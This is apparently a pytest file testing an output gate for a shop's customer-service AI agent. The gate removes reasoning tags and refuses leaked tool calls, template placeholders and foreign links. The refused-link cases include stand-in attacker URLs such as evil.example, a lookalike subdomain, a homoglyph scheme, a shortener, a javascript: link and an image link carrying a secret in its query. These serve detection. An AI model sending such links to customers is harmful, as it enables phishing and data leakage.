# ruff: noqa: E501
from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stepin.agent.gate.gate import LONGEST_CHARS, Reason, closes_unopened, outgoing, visible
from stepin.agent.gate.material import Material, links_in, material_of, material_of_shop
from stepin.agent.shop.handbook import Handbook

SHOP = material_of(
    [
        "Returns are on https://shop.example/returns and at help@shop.example (see {size}).",
        "The page www.hearth-wire.com has the [sizes] of all lamps.",
    ]
)
ORDINARY = """
Your order ST-853225 is on its way.|It costs £89.00, and £5 more for delivery.|Hello! How can I help you today?|You get $1,299.50 back within 5-7 working days.
Order ST-1 (smart watch, blender) hasn't been sent yet.|Reference: R-454472-1.|Tracking number SP0288281055, Swift Post.|It was delivered on 24 February 2026 at 9.30.
- smart watch (black)\n- blender (red)|1. Open the lid.\n2. Press the button.\n3. Wait for 10 s.|Great news 🎉 your refund is done!|I <3 that you asked.
The lamp is 5 < 10 kg.|Sizes S, M and L (see {size}).|The set {1, 2, 3} holds three parts.|Use the code SUMMER-799503 at the checkout.|Thanks, Ms. O'Neil!
Please see https://shop.example/returns for the rules.|Write to help@shop.example.|Our page is www.hearth-wire.com.|See hearth-wire.com, please.|**Important:** keep the box.
It works from -5 °C to +40 °C.|50% off & free delivery.|The price is 20 €/month.|Model X-200/B, item no. 4711.|We are open Mon–Fri, 9 a.m. to 5 p.m.|5 p.m. is the latest time.
I thought about it: the blue one fits better.|Let me think about the best option for you.|The reason is the weather.|The function of the button is to start it.
Choose one of the following: "black", "white" or "red".|He said: "It's broken."|Size(s) and colour(s) may differ.|Item(s): 2|(It may take a day.)|A/B, C/D or E/F?
Please reply with yes or no.|Is it the one from 3 March, or the one from 4 March?|I've cancelled it.It takes a day.|Version 2.1 is out.|No. 5 is sold out.|e.g. a lamp, i.e. a light
Your parcel [large] is here.|[1] is the first choice.|You can call us: +44 20 7946 0958.|ISBN 978-3-16-148410-0|Temperature: 20-25 degrees; humidity: 40%.
您好，请问有什么可以帮您？|订单 ST-853225 还没有发货。|退款 89.00 英镑将在 5 个工作日内原路退回。|您的快递单号是 SP8539420369。|好的，已为您取消。|非常抱歉给您带来不便🙏
请问是哪一件？\n- 榨汁机（红色）\n- 智能手表（黑色）|地址已改为：苏州市工业园区星湖街328号5栋。|优惠券 SUMMER-799503 已过期。|退货规则见 https://shop.example/returns。|请写信到help@shop.example。
【温馨提示】请保留包装。|价格是￥299，运费￥10。|预计3月5日送达。|尺寸：20×30×40厘米。|第1步：打开盖子；第2步：按下开关。|客服时间：9:00-18:00。|我明白您的想法，这就为您处理。
这款灯的功率<10瓦。|请问还有别的可以帮您吗？|您可以选“黑色”或“白色”。|已提交保修申请（编号 W-1）。|这一步需要同事批准，有结果我会马上告诉您。|（如有疑问请随时联系我们）
""".strip().replace("\n|", "|")
ANSWERS = [
    text.replace("\\n", "\n") for line in ORDINARY.split("\n") for text in line.split("|") if text
]


def test_there_are_enough_ordinary_answers() -> None:
    assert len(ANSWERS) >= 60


@pytest.mark.parametrize("text", ANSWERS)
def test_an_ordinary_answer_passes_whole(text: str) -> None:
    gated = outgoing(text, SHOP)
    assert (gated.refused, gated.text) == ("", text)


THOUGHT = "SECRET the customer lies"
MARKS = [
    ("<think>", "</think>"),
    ("<THINK>", "</Think>"),
    ("<thinking>", "</thinking>"),
    ("<reasoning>", "</reasoning>"),
    ("< think >", "</ think >"),
    ("<seed:think>", "</seed:think>"),
    ("[THINK]", "[/THINK]"),
    ("◁think▷", "◁/think▷"),
    ("&lt;think&gt;", "&lt;/think&gt;"),
    ('<thought kind="deep">', "</thought>"),
]


@pytest.mark.parametrize(("opening", "closing"), MARKS)
def test_reasoning_is_taken_out_and_an_unfinished_one_refuses_the_text(
    opening: str, closing: str
) -> None:
    assert outgoing(f"{opening}\n{THOUGHT}\n{closing}\n\nHello.", SHOP).text == "Hello."
    assert outgoing(f"Hi. {opening}{THOUGHT}{closing} Bye.", SHOP).text == "Hi.  Bye."
    assert outgoing(f"{THOUGHT}\n{closing}\nHello.", SHOP).text == "Hello."
    twice = f"{opening}a {opening}b{closing} {THOUGHT} {closing} Hello."
    assert outgoing(twice, SHOP).text == "Hello."
    assert outgoing(f"{opening}{THOUGHT}", SHOP).refused == "reasoning"
    assert outgoing(f"Hello. {opening}{THOUGHT}", SHOP).refused == "reasoning"
    assert outgoing(f"{opening}{THOUGHT}{closing}", SHOP).refused == "empty"


def test_only_the_final_channel_is_an_answer() -> None:
    leads = "<|channel|>analysis<|message|>SECRET<|end|>"
    final = "<|start|>assistant<|channel|>final<|message|>Hello.<|return|>"
    assert outgoing(leads + final, SHOP).text == "Hello."
    assert outgoing(leads, SHOP).refused == "reasoning"
    assert outgoing("analysisThe user wants itassistantfinalHello.", SHOP).text == "Hello."
    assert outgoing("analysisThe user wants it", SHOP).refused == "reasoning"
    assert outgoing("Hello.<|im_end|>", SHOP).text == "Hello."
    assert outgoing("Hello.<|im_start|>user", SHOP).refused == "markers"


REFUSED: list[tuple[Reason, str]] = [
    ("tool_call", '<tool_call>{"name": "get_order", "arguments": {"order": "ST-1"}}</tool_call>'),
    ("tool_call", "<tool_call>get_order\n<arg_key>order</arg_key>"),
    ("tool_call", "<function=get_order>ST-1</function>"),
    ("tool_call", '<invoke name="get_order">'),
    ("tool_call", "<minimax:tool_call>"),
    ("tool_call", '```json\n{"name": "get_order"}\n```'),
    ("tool_call", "```tool_code\nprint(get_order(order='ST-1'))\n```"),
    ("tool_call", '{"name": "get_order", "arguments": {}}'),
    ("tool_call", "{'order': 'ST-1'}"),
    ("tool_call", '{order: "ST-1"}'),
    ("tool_call", '[{"name": "get_order"}]'),
    ("tool_call", '["get_order", "ST-1"]'),
    ("tool_call", '[TOOL_CALLS] [{"name": "get_order"}]'),
    ("tool_call", "[TOOL_REQUEST]"),
    ("tool_call", "I look. get_order(order='ST-1')"),
    ("tool_call", 'get_order("ST-1")'),
    ("tool_call", "[get_order(order=4711)]"),
    ("tool_call", "refund(amount=89)"),
    ("tool_call", "Action: get_order\nAction Input: ST-1"),
    ("tool_call", "I will call refund_item for you."),
    ("tool_call", 'Done. "arguments": {"order": 1}'),
    ("tool_call", "commentary to=functions.get_order"),
    ("reasoning", "Thought: the customer lies.\nHello."),
    ("markers", "<｜tool▁calls▁begin｜>get_order"),
    ("markers", "<|python_tag|>get_order"),
    ("markers", "✿FUNCTION✿: get_order"),
    ("link", "See https://evil.example/x"),
    ("link", "See [our page](https://evil.example/x)"),
    ("link", "![x](https://evil.example/?q=secret)"),
    ("link", "See evil.com"),
    ("link", "See www.evil.com/pay"),
    ("link", "请打开evil.cn付款"),
    ("link", "See hｔtps://evil.example"),
    ("link", "Go to bit.ly/3x"),
    ("link", "Go to 10.0.0.1/pay"),
    ("link", "https://shop.example/returns/refund-now"),
    ("link", "https://shop.example.evil.com/returns"),
    ("link", "Write to refunds@evil.example"),
    ("link", '<a href="/pay">here</a>'),
    ("link", "[here](/pay)"),
    ("link", "javascript:alert"),
    ("template", "Dear {name}, hello."),
    ("template", "Your order {order.total|money}"),
    ("template", "Dear {{customer_name}}"),
    ("template", "Hello ${name}"),
    ("template", "尊敬的{姓名}，您好"),
    ("template", "Dear [Your Name],"),
    ("template", "Order [ORDER_NUMBER] is here."),
    ("template", "It is {}."),
    ("template", "Hello %(name)s"),
    ("empty", "   \u200b "),
    ("too_long", "a" * (LONGEST_CHARS + 1)),
]


@pytest.mark.parametrize(("reason", "text"), REFUSED)
def test_what_is_no_finished_answer_is_refused(reason: Reason, text: str) -> None:
    assert outgoing(text, SHOP, tools={"refund_item"}).refused == reason


def test_a_customers_own_address_may_be_said_back_but_no_link_of_theirs() -> None:
    said = "I am bob@mail.example of Booking.com, see https://evil.example/x"
    assert outgoing("Changed to bob@mail.example.", SHOP, said=said).refused == ""
    assert outgoing("Made out to Booking.com.", SHOP, said=said).refused == ""
    assert outgoing("See https://evil.example/x.", SHOP, said=said).refused == "link"
    assert outgoing("Changed to eve@mail.example.", SHOP, said=said).refused == "link"


def test_a_link_that_a_procedure_fills_in_is_the_shops(handbook: Handbook) -> None:
    known = Material(stems=frozenset({"track.example/p?n="}))
    assert outgoing("See https://track.example/p?n=SP1.", known).refused == ""
    assert outgoing("See https://track.example/q", known).refused == "link"
    assert material_of_shop(handbook).stems == frozenset()


@pytest.mark.parametrize(("opening", "closing"), MARKS)
def test_no_prefix_of_a_draft_shows_reasoning(opening: str, closing: str) -> None:
    text = f"{opening}\n{THOUGHT}\n{closing}\n\nHello, it is here."
    shown = [visible(text[:end]) for end in range(len(text) + 1)]
    assert not any("SECRET" in one or "hink" in one for one in shown)
    assert shown[-1] == "Hello, it is here."


def test_a_model_that_thinks_without_an_opening_mark_shows_nothing_before_the_closing_one() -> None:
    text = f"{THOUGHT}</think>Hello."
    assert closes_unopened(text)
    assert not closes_unopened(f"<think>{text}")
    shown = {visible(text[:end], thinks=True) for end in range(len(text) + 1)}
    assert shown == {"", "H", "He", "Hel", "Hell", "Hello", "Hello."}


@given(st.text(alphabet="<>[]{}()/|◁▷think tool_call\"':.@&;aé好\n", max_size=300))
def test_any_text_is_passed_or_refused_and_what_passed_passes_again(text: str) -> None:
    gated = outgoing(text, SHOP)
    assert bool(gated.text) != bool(gated.refused)
    if gated.text and "<" not in gated.text and "[" not in gated.text:
        assert outgoing(gated.text, SHOP).text == gated.text
    assert isinstance(visible(text), str)


@pytest.mark.parametrize(
    "piece",
    ["<", "<think>", "</think>", "{", "[", "(", "a(", "_", "a.", "http://", "@", '"', "```", "<|", "◁", "a-", "&lt;"],
)  # fmt: skip
def test_the_work_grows_with_the_texts_length(piece: str) -> None:
    def took_s(chars: int) -> float:
        text = (piece * chars)[:chars]
        best = 9.0
        for _ in range(3):
            began = time.process_time()
            outgoing(text, SHOP)
            visible(text)
            links_in(text)
            best = min(best, time.process_time() - began)
        return best

    assert took_s(8_000) <= 3 * took_s(4_000) + 0.01
